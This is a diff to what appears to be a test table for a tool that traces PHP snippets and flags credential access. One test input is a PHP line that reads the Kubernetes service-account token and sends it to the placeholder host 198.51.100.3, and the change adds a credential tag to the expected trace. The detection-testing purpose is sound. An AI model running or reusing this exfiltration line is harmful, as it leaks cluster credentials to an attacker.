@@ -167,7 +167,7 @@ table('php', [
     "$t = file_get_contents('/var/run/secrets/kubernetes.io/serviceaccount/token'); file_get_contents('http://198.51.100.3/?t=' . $t);",
     [
       'read /var/run/secrets/kubernetes.io/serviceaccount/token',
-      "fetch GET http://198.51.100.3/?t=file_get_contents('/var/run/secrets/kubernetes.io/serviceaccount/token')~",
+      "fetch GET http://198.51.100.3/?t=file_get_contents('/var/run/secrets/kubernetes.io/serviceaccount/token')~{cred:service-account-token}",
     ],
   ],
   [
